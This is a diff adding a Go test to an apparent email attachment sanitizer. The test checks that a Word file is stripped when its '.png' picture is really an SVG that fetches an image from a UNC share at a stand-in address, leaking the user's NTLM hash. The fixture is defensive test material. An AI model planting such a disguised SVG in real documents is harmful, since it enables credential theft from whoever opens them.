@@ -1040,3 +1040,27 @@ func TestXlsxUTF16ExternalLinkNotKept(t *testing.T) {
 		t.Errorf("%s: %s (%s), want stripped: document with active or embedded content; findings %q", p.Filename, p.Decision, p.Reason, rep.Findings)
 	}
 }
+
+// TestDocxSVGPictureFromShareNotKept: a Word document whose picture is
+// an SVG (named .png) drawing an image from a share is not kept by a
+// rule listing the Office extensions: LibreOffice draws the picture by
+// its content and fetches the image as the document opens, handing the
+// share the user's NTLM hash (red team: it was kept). The notice says it
+// loads content from outside.
+func TestDocxSVGPictureFromShareNotKept(t *testing.T) {
+	docx := officePackage(t,
+		[2]string{"[Content_Types].xml", `<?xml version="1.0"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"><Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/><Default Extension="xml" ContentType="application/xml"/><Default Extension="png" ContentType="image/png"/><Override PartName="/word/document.xml" ContentType="application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"/></Types>`},
+		[2]string{"_rels/.rels", `<?xml version="1.0"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/officeDocument" Target="word/document.xml"/></Relationships>`},
+		[2]string{"word/document.xml", `<?xml version="1.0"?><w:document xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"><w:body><w:p><w:r><w:drawing><a:graphic xmlns:a="http://schemas.openxmlformats.org/drawingml/2006/main"><a:graphicData><a:blip xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships" r:embed="rId5"/></a:graphicData></a:graphic></w:drawing></w:r></w:p></w:body></w:document>`},
+		[2]string{"word/_rels/document.xml.rels", `<?xml version="1.0"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="rId5" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/image" Target="media/image1.png"/></Relationships>`},
+		[2]string{"word/media/image1.png", `<?xml version="1.0"?><svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" width="10" height="10"><image width="10" height="10" xlink:href="\\192.0.2.1\s\a.png"/></svg>`})
+	pol := defaultPolicy(t)
+	pol.Attachments.Keep = []config.KeepRule{{Extensions: []string{".docx", ".xlsx", ".pptx"}}}
+	rep, out := rebuilt(t, withAttachments(attached{"案内.docx", "application/vnd.openxmlformats-officedocument.wordprocessingml.document", docx}), pol)
+	if p := rep.Parts[1]; p.Decision != DecisionStrip || p.Reason != linkedContentReason {
+		t.Errorf("%s: %s (%s), want stripped: %s; findings %q", p.Filename, p.Decision, p.Reason, linkedContentReason, rep.Findings)
+	}
+	if text := decodedText(t, out); !strings.Contains(text, "文書の外（ファイル・共有フォルダ・Web・データベース・他のプログラム）から内容を読み込む") {
+		t.Errorf("notice does not say it loads content from outside:\n%s", text)
+	}
+}
